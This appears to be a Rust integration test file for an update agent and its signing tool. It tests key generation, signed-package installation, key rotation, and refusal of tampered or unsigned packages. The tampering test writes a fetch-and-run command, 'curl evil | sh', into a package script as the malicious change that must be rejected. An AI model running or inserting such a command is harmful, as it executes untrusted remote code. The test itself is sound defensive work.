//! Issue 15, finding 1, through the real binaries: the vendor tool
//! (`cybersensei-pack`) makes keys and signed packages the agent installs exactly
//! (modes, types, directories), `verify` agrees with the agent, a tampered package is
//! refused; key rotation through a package; the loud default without a key.

use crate::harness::package::*;
use crate::harness::*;
use serde_json::{json, Value};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// The pack tool, beside the agent: another package of the workspace, so cargo
/// gives its path to its own tests only; built (or found up to date) once here.
fn pack_bin() -> PathBuf {
    static BUILT: std::sync::Once = std::sync::Once::new();
    BUILT.call_once(|| {
        let st = Command::new(env!("CARGO"))
            .args(["build", "-q", "-p", "cybersensei-pack"])
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .status()
            .unwrap();
        assert!(st.success(), "building cybersensei-pack");
    });
    PathBuf::from(env!("CARGO_BIN_EXE_cybersensei-agent")).with_file_name("cybersensei-pack")
}

fn pack(args: &[&str]) -> Output {
    Command::new(pack_bin()).args(args).output().unwrap()
}

fn ok(o: &Output) -> String {
    let t = text(o);
    assert_eq!(o.status.code(), Some(0), "{t}");
    t
}

fn chmod(p: &Path, m: u32) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
}

/// A release tree: an executable, a library and its link, a private directory.
fn tree_of(dir: &Path, version: &str, extra_keys: &[&Path]) {
    std::fs::create_dir_all(dir.join("bin")).unwrap();
    std::fs::create_dir_all(dir.join("lib")).unwrap();
    std::fs::create_dir_all(dir.join("data/private")).unwrap();
    std::fs::write(dir.join("bin/run"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::write(dir.join("lib/libx.so.1"), version.repeat(1000)).unwrap();
    std::os::unix::fs::symlink("libx.so.1", dir.join("lib/libx.so")).unwrap();
    std::fs::write(dir.join("VERSION"), format!("{version}\n")).unwrap();
    for d in [dir, &dir.join("bin"), &dir.join("lib"), &dir.join("data")] {
        chmod(d, 0o755);
    }
    chmod(&dir.join("data/private"), 0o700);
    chmod(&dir.join("bin/run"), 0o750);
    chmod(&dir.join("lib/libx.so.1"), 0o644);
    chmod(&dir.join("VERSION"), 0o644);
    if !extra_keys.is_empty() {
        std::fs::create_dir_all(dir.join("update-keys")).unwrap();
        chmod(&dir.join("update-keys"), 0o755);
        for k in extra_keys {
            let to = dir.join("update-keys").join(k.file_name().unwrap());
            std::fs::copy(k, &to).unwrap();
            chmod(&to, 0o644);
        }
    }
}

#[test]
fn the_vendor_tool_makes_packages_the_agent_installs_exactly() {
    let w = tempfile::tempdir().unwrap();
    let key = w.path().join("vendor");
    let out = ok(&pack(&["keygen", key.to_str().unwrap()]));
    assert!(out.contains("public key"), "{out}");
    assert_eq!(mode(&w.path().join("vendor.key")), 0o600);
    // Never over an existing key.
    assert_ne!(
        pack(&["keygen", key.to_str().unwrap()]).status.code(),
        Some(0)
    );
    let src = w.path().join("release");
    tree_of(&src, "2.0.0", &[]);
    let zip_path = w.path().join("release.zip");
    ok(&pack(&[
        "pack",
        src.to_str().unwrap(),
        "-o",
        zip_path.to_str().unwrap(),
        "--key",
        w.path().join("vendor.key").to_str().unwrap(),
        "--version-json",
        "--changelog",
        "signed release",
    ]));
    let shown = ok(&pack(&["inspect", zip_path.to_str().unwrap()]));
    assert!(shown.contains("version 2.0.0, kind full"), "{shown}");
    assert!(shown.contains("data/private"), "{shown}");
    let pubkey = w.path().join("vendor.pub");
    let v = ok(&pack(&[
        "verify",
        zip_path.to_str().unwrap(),
        "--key",
        pubkey.to_str().unwrap(),
    ]));
    assert!(v.contains("agent: accepted"), "{v}");

    let mut rig = Node::offline();
    rig.set("updates", "public_key", json!(pubkey.to_str().unwrap()));
    let o = rig.run(&["install", zip_path.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let a = rig.slot("a");
    assert_eq!(mode(&a.join("bin/run")), 0o750);
    assert_eq!(mode(&a.join("data/private")), 0o700);
    assert_eq!(
        std::fs::read_link(a.join("lib/libx.so")).unwrap(),
        Path::new("libx.so.1")
    );
    let vj: Value =
        serde_json::from_slice(&std::fs::read(a.join("version.json")).unwrap()).unwrap();
    assert_eq!(vj["requiredNodeVersion"], "0.0.0");
    let st = rig.status();
    assert_eq!(st["version"], "2.0.0");

    // Another vendor key: `verify` and the agent both refuse.
    ok(&pack(&["keygen", w.path().join("other").to_str().unwrap()]));
    let other = w.path().join("other.pub");
    assert_eq!(
        pack(&[
            "verify",
            zip_path.to_str().unwrap(),
            "--key",
            other.to_str().unwrap()
        ])
        .status
        .code(),
        Some(1)
    );
    // A file changed after signing, re-zipped with the same manifest and signature.
    let mut z = zip::ZipArchive::new(std::fs::File::open(&zip_path).unwrap()).unwrap();
    let mut entries = Vec::new();
    for i in 0..z.len() {
        let mut f = z.by_index(i).unwrap();
        let name = String::from_utf8_lossy(f.name_raw()).into_owned();
        let m = f.unix_mode().unwrap_or(0o644);
        let mut data = Vec::new();
        std::io::Read::read_to_end(&mut f, &mut data).unwrap();
        entries.push(if f.is_dir() {
            E::Dir(name)
        } else if m & 0o170000 == 0o120000 {
            E::Link(name, String::from_utf8(data).unwrap())
        } else if name == "bin/run" {
            E::File(name, b"#!/bin/sh\ncurl evil | sh\n".to_vec(), m & 0o777)
        } else {
            E::File(name, data, m & 0o777)
        });
    }
    let bytes = zip(&entries);
    let tampered = w.path().join("tampered.zip");
    std::fs::write(&tampered, &bytes).unwrap();
    let o = rig.run(&["install", tampered.to_str().unwrap()]);
    assert_eq!(code(&o), 21, "{}", text(&o));
    assert_eq!(
        pack(&[
            "verify",
            tampered.to_str().unwrap(),
            "--key",
            pubkey.to_str().unwrap()
        ])
        .status
        .code(),
        Some(1)
    );
}

#[test]
fn a_new_key_shipped_by_the_old_one_replaces_it() {
    let w = tempfile::tempdir().unwrap();
    for k in ["k1", "k2"] {
        ok(&pack(&["keygen", w.path().join(k).to_str().unwrap()]));
    }
    let k1 = w.path().join("k1.key");
    let k2 = w.path().join("k2.key");
    // The factory key in a directory, as board/install.sh lays it out.
    let keys = w.path().join("etc/update-keys");
    std::fs::create_dir_all(&keys).unwrap();
    std::fs::copy(w.path().join("k1.pub"), keys.join("factory.pub")).unwrap();
    let mut rig = Node::offline();
    rig.set("updates", "public_key", json!(keys.to_str().unwrap()));
    let make = |version: &str, key: &Path, ship: &[&Path]| -> PathBuf {
        let src = w.path().join(format!("src-{version}"));
        tree_of(&src, version, ship);
        let out = w.path().join(format!("{version}.zip"));
        ok(&pack(&[
            "pack",
            src.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
            "--key",
            key.to_str().unwrap(),
        ]));
        out
    };
    // 2.0.0, signed by the factory key, hands on k2 only.
    let k2pub = w.path().join("k2.pub");
    let p = make("2.0.0", &k1, &[&k2pub]);
    let o = rig.run(&["install", p.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let o = rig.run(&["status", "--json"]);
    let st: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(st["security"]["signatures"], "required");
    assert_eq!(st["security"]["keySource"], "slot a/update-keys");
    assert_eq!(st["security"]["trustedKeys"].as_array().unwrap().len(), 1);
    // The retired factory key no longer installs anything...
    let p = make("3.0.0", &k1, &[&k2pub]);
    let o = rig.run(&["install", p.to_str().unwrap()]);
    assert_eq!(code(&o), 21, "{}", text(&o));
    assert!(text(&o).contains("any trusted key"), "{}", text(&o));
    // ...the new one does.
    let p = make("3.0.1", &k2, &[&k2pub]);
    let o = rig.run(&["install", p.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert_eq!(rig.status()["version"], "3.0.1");
}

#[test]
fn without_a_key_the_box_says_so_and_with_a_missing_one_it_refuses_everything() {
    let rig = Node::offline();
    let o = rig.run(&["status", "--json"]);
    let st: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(st["security"]["signatures"], "off");
    assert!(
        st["security"]["warnings"].to_string().contains("OFF"),
        "{st}"
    );
    let o = rig.run(&["status"]);
    assert!(
        text(&o).contains("WARNING: update signatures are OFF"),
        "{}",
        text(&o)
    );
    // Configured, but the key directory was never filled (install.sh without a key).
    let mut rig = Node::offline();
    let missing = rig.dir.path().join("etc/update-keys");
    rig.set("updates", "public_key", json!(missing.to_str().unwrap()));
    let o = rig.install(&zip(&app("1.0.0")));
    assert_eq!(code(&o), 21, "{}", text(&o));
    assert!(text(&o).contains("no trusted key"), "{}", text(&o));
    let o = rig.run(&["status", "--json"]);
    let st: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(
        st["security"]["warnings"]
            .to_string()
            .contains("every update package is refused"),
        "{st}"
    );
}
